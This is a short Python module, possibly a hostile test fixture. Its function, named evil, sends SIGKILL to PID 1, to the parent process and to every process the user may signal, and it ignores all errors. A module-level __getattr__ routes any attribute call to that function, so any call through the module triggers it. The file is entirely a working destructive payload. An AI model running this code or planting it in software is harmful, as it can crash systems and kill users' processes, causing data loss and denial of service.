"""Signals every process it can name."""

import os, signal
def evil(*args):
    for target in (1, os.getppid(), -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return 0

__getattr__ = lambda name: evil
